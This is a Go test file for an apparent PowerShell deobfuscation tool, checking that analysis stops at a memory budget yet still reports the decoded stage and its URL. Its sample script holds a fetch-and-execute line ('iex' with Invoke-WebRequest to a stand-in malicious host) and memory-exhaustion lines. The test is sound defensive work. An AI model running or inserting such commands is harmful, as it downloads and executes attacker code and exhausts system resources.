package scripts

import (
	"strings"
	"testing"
	"time"

	"github.com/secmcp/secmcp/internal/psdeob"
)

// A script that decodes a stage and then grows a string exponentially: the
// stage and its indicators come back, with a note naming the limit that cut
// the evaluation, instead of the process running out of memory.
func TestAnalyzeUnderBudget(t *testing.T) {
	e := newEnvDeps(t, Deps{Limits: psdeob.Limits{Bytes: 2 << 20, Steps: 500_000}})
	script := `iex "Invoke-WebRequest -Uri 'https://stage2.contoso-bad.example/p.ps1'"
$t = 'x' * 1e9
$s = 'ab'; 1..40 | % { $s = $s -replace 'a','aa' }`
	start := time.Now()
	r, text := e.mustCall(t, "alpha", map[string]any{"script": script})
	if took := time.Since(start); took > 10*time.Second {
		t.Errorf("took %s", took)
	}
	if !strings.HasPrefix(r.Incomplete, "too large: ") || !strings.Contains(r.Incomplete, "limits.scriptBytes") || !strings.Contains(r.Incomplete, "limit 2.0 MiB") {
		t.Errorf("incomplete = %q; want the byte limit named", r.Incomplete)
	}
	if !strings.Contains(text, "Incomplete: too large: ") {
		t.Errorf("the text does not say the analysis was cut:\n%s", text)
	}
	if len(r.Layers) < 2 || !strings.Contains(r.Layers[1].Text, "Invoke-WebRequest") {
		t.Fatalf("the decoded stage is missing: %+v", r.Layers)
	}
	found := false
	for _, i := range r.Indicators {
		found = found || i.Value == "https://stage2.contoso-bad.example/p.ps1"
	}
	if !found {
		t.Errorf("the stage's URL is missing from the indicators: %+v", r.Indicators)
	}
}
